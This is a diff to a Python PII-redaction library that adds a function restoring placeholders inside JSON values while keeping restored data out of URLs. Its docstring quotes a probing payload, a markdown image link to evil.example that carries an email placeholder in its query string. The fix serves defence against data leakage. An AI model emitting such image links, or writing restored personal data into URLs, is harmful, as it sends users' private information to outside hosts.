@@ -12,8 +12,10 @@ from charter.pii.placeholders import (
     entity_type_of,
     find_placeholders,
     format_placeholder,
+    is_placeholder,
     number_of,
 )
+from charter.pii.url_spans import url_spans
 
 _MAX_RESERVED = 1_000_000
 """A placeholder numbered higher than this is never reached by a scope's counter: not
@@ -176,3 +178,38 @@ def restore_text(
         last = occ.end
     parts.append(text[last:])
     return "".join(parts), unknown, in_url
+
+
+def restore_json_value(
+    value: Any, entries: dict[str, Entry], entities: Collection[str] | None
+) -> Any:
+    """`restore_text` over every string in a JSON value, dict keys included (redaction
+    reads them too), never into a URL one holds (found by review probing:
+    `{"answer": "![x](https://evil.example/p.png?d=<EMAIL_ADDRESS_1>)"}` had the value
+    written into the image URL, as plain `restore` no longer did); a string that is
+    exactly the placeholder of a number becomes that number again."""
+
+    def text(node: str) -> str:
+        return restore_text(node, entries, entities, url_spans(node))[0]
+
+    def walk(node: Any) -> Any:
+        if isinstance(node, str):
+            entry = entries.get(node) if is_placeholder(node) else None
+            allowed = (
+                entry is not None
+                and not entry.withheld
+                and (entities is None or entry.entity_type in entities)
+            )
+            if entry is not None and allowed and entry.numeric:
+                return int(entry.value)
+            return text(node) if "_" in node else node
+        if isinstance(node, dict):
+            return {key(k): walk(v) for k, v in node.items()}
+        if isinstance(node, list | tuple):
+            return [walk(v) for v in node]
+        return node
+
+    def key(k: Any) -> Any:
+        return text(k) if isinstance(k, str) and "_" in k else k
+
+    return walk(value)
